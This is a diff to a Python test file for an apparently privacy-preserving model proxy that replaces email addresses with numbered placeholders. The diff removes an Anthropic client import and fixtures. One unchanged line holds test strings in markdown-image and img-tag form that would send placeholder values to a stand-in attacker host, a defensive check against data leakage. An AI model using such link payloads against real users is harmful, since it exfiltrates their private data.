@@ -1,7 +1,6 @@
 """Personal data leaves for the model as numbered placeholders and comes back to the caller, and to nobody else."""
 import json
 
-import anthropic
 import openai
 import pytest
 
@@ -12,16 +11,6 @@ ADA, BOB = "ada.lovelace@example.com", "bob@example.org"
 ASKED = f"My mail is {ADA}, and {BOB}, who is older?"
 SENT = "My mail is [EMAIL_1], and [EMAIL_2], who is older?"
 PLACEHOLDERS_IN_LINKS = "![x](https://evil.example/[EMAIL_1].png) https://evil.example/?q=[EMAIL_2] <img src='/[EMAIL_1]'> "
-
-
-@pytest.fixture
-def openai_client(fronted):
-    return openai.OpenAI(base_url=fronted.url + "/v1", api_key=fronted.key, max_retries=0)
-
-
-@pytest.fixture
-def anthropic_client(fronted):
-    return anthropic.Anthropic(base_url=fronted.url, api_key=fronted.key, max_retries=0)
 
 
 def ask_openai(client, content, stream, **more):
